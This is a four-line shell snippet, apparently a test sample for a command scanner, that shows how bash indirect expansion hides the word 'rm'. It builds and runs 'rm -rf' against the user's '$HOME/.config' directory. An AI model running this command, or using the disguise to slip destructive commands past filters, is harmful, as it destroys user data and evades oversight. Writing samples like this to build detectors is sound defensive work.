# disguised-command: indirect expansion picks the command through a second variable
TOOL=rm
pick=TOOL
${!pick} -rf "$HOME/.config"
